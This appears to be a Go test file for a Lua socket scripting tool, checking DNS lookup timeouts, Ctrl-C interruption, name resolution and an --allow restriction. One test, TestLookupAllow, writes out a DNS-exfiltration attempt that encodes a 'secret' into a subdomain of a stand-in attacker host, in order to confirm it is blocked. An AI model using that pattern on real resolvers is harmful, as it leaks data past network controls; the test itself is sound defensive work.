package luaapi

import (
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	lua "github.com/yuin/gopher-lua"

	"sockshell/internal/dnstest"
	"sockshell/sock"
)

// dnsSession is a session whose names go to dns and to a hosts file
// naming svc.hosts.test (127.0.0.1): no query leaves the machine.
func dnsSession(t *testing.T, cfg Config, dns *dnstest.Server) *session {
	t.Helper()
	hosts := filepath.Join(t.TempDir(), "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost svc.hosts.test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := newSession(t, cfg)
	s.rt.table.Names = sock.Names{Resolver: dns.Resolver(), HostsFile: hosts}
	return s
}

// TestLookupWaits: a lookup from a resolver that never answers ends at the
// call's own timeout with ETIMEDOUT, and the other tasks run meanwhile.
func TestLookupWaits(t *testing.T) {
	dns := dnstest.Start(t, nil)
	s := dnsSession(t, Config{}, dns)
	res := s.ok(`
local ticks = 0
spawn(function() while true do sleep(0.02) ticks = ticks + 1 end end)
local s = socket("inet", "stream")
local t0 = now()
local ok, msg, code = connect(s, "silent.example.test:80", 0.5)
return ok, (msg:gsub("^connect %d+", "connect FD")), code, now() - t0, ticks
`)
	if len(res) != 5 {
		t.Fatalf("results %s", showAll(res))
	}
	wantResults(t, res[:3], `(nil, "connect FD silent.example.test:80: ETIMEDOUT: lookup of host \"silent.example.test\" timed out", "ETIMEDOUT")`)
	if d := float64(res[3].(lua.LNumber)); d < 0.45 || d > 1.5 {
		t.Errorf("connect took %.2fs, want its timeout of 0.5s", d)
	}
	if ticks := int(res[4].(lua.LNumber)); ticks < 10 {
		t.Errorf("another task ticked %d times in 0.5s: the lookup held up the scheduler", ticks)
	}
	if len(dns.Queries()) == 0 {
		t.Error("no query reached the resolver")
	}
	// The session default bounds sendto and bind, which take no timeout.
	s.rt.SetDefaultTimeout(200 * time.Millisecond)
	wantResults(t, s.ok(`
local u = socket("inet", "dgram")
local _, _, c1 = sendto(u, "x", "silent.example.test:9")
local _, _, c2 = bind(u, "silent.example.test:0")
return c1, c2`), `("ETIMEDOUT", "ETIMEDOUT")`)
}

// TestLookupInterrupt: Ctrl-C ends a waiting lookup at once with EINTR,
// and the lookup's goroutine stops (TestMain checks no goroutine is left).
func TestLookupInterrupt(t *testing.T) {
	dns := dnstest.Start(t, nil)
	s := dnsSession(t, Config{}, dns)
	fn, err := s.rt.ls.LoadString(`
local s = socket("inet", "stream")
local t0 = now()
local ok, msg, code = connect(s, "silent.example.test:80", 30)
return code, (msg:gsub("^connect %d+", "connect FD")), now() - t0`)
	if err != nil {
		t.Fatal(err)
	}
	task := s.rt.Spawn("main", fn)
	time.AfterFunc(100*time.Millisecond, func() { s.rt.Post(func() { s.rt.Cancel(task, true) }) })
	s.rt.RunUntil(task.Done)
	res := task.Results()
	wantResults(t, res[:2], `("EINTR", "connect FD silent.example.test:80: EINTR: interrupted")`)
	if d := float64(res[2].(lua.LNumber)); d > 1 {
		t.Errorf("the interrupted connect took %.2fs", d)
	}
}

// TestLookupAnswers: a name DNS answers is connected to, sent to and bound
// to; a call made where it cannot yield (in a sort's comparator) waits for
// its lookup where it is.
func TestLookupAnswers(t *testing.T) {
	dns := dnstest.Start(t, map[string]netip.Addr{"svc.example.test": netip.MustParseAddr("127.0.0.1")})
	s := dnsSession(t, Config{}, dns)
	res := s.ok(`
local l = socket("inet", "stream")
assert(bind(l, "svc.example.test:0"))
assert(listen(l))
local port = getsockname(l):match(":(%d+)$")
local c = socket("inet", "stream")
assert(connect(c, "svc.example.test:" .. port, 2))
local a = assert(accept(l))
local u = socket("inet", "dgram")
assert(bind(u, "127.0.0.1:0"))
local uport = getsockname(u):match(":(%d+)$")
local v = socket("inet", "dgram")
assert(sendto(v, "hi", "svc.example.test:" .. uport))
local got = recvfrom(u)
local c2 = socket("inet", "stream")
table.sort({2, 1}, function(x, y) assert(connect(c2, "svc.example.test:" .. port)) return x < y end)
return getpeername(c) == "127.0.0.1:" .. port, got, getpeername(c2) == "127.0.0.1:" .. port
`)
	wantResults(t, res, `(true, "hi", true)`)
	if q := strings.Join(dns.Queries(), " "); !strings.Contains(q, "svc.example.test") {
		t.Errorf("queries %q", q)
	}
}

// TestLookupAllow: under --allow a name only DNS could answer is EACCES,
// and not one query is sent — the name cannot carry data out through the
// resolver; names from the hosts file still work.
func TestLookupAllow(t *testing.T) {
	dns := dnstest.Start(t, map[string]netip.Addr{"svc.example.test": netip.MustParseAddr("127.0.0.1")})
	s := dnsSession(t, Config{Allow: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}}, dns)
	res := s.ok(`
local secret = "c2VjcmV0"
local s = socket("inet", "stream")
local _, msg, code = connect(s, secret .. ".attacker.test:80")
local u = socket("inet", "dgram")
local _, _, c2 = sendto(u, "x", secret .. ".attacker.test:53")
local _, _, c3 = bind(u, secret .. ".attacker.test:0")
local _, _, c4 = connect(s, "svc.example.test:80")
assert(bind(u, "svc.hosts.test:0"))
return (msg:gsub("^connect %d+", "connect FD")), code, c2, c3, c4
`)
	wantResults(t, res, `("connect FD c2VjcmV0.attacker.test:80: EACCES: host \"c2VjcmV0.attacker.test\" is not in `+
		s.rt.table.Names.HostsFile+`: with --allow only numeric addresses and names from the hosts file are used (no DNS query is sent)", "EACCES", "EACCES", "EACCES", "EACCES")`)
	time.Sleep(50 * time.Millisecond)
	if q := dns.Queries(); len(q) != 0 {
		t.Errorf("queries sent under --allow: %q", q)
	}
}

// TestLookupThenWait: after its lookup, a connect that must wait for its
// handshake (the listener's queue is full) goes on waiting, and the lookup
// and the handshake share the call's one timeout.
func TestLookupThenWait(t *testing.T) {
	dns := dnstest.Start(t, map[string]netip.Addr{"svc.example.test": netip.MustParseAddr("127.0.0.1")})
	s := dnsSession(t, Config{}, dns)
	res := s.ok(`
local l = socket("inet", "stream")
assert(bind(l, "127.0.0.1:0"))
assert(listen(l, 0))
local addr = getsockname(l)
local port = addr:match(":(%d+)$")
for i = 1, 8 do -- fill the queue of completed connections, then the SYN queue
  local c = socket("inet", "stream")
  nonblock(c, true)
  connect(c, addr)
end
local c = socket("inet", "stream")
local t0 = now()
local ok, msg, code = connect(c, "svc.example.test:" .. port, 0.3)
return code, info(c).state, now() - t0
`)
	if len(res) != 3 {
		t.Fatalf("results %s", showAll(res))
	}
	wantResults(t, res[:2], `("ETIMEDOUT", "connecting")`)
	if d := float64(res[2].(lua.LNumber)); d < 0.28 || d > 1 {
		t.Errorf("connect took %.2fs, want its timeout of 0.3s", d)
	}
}
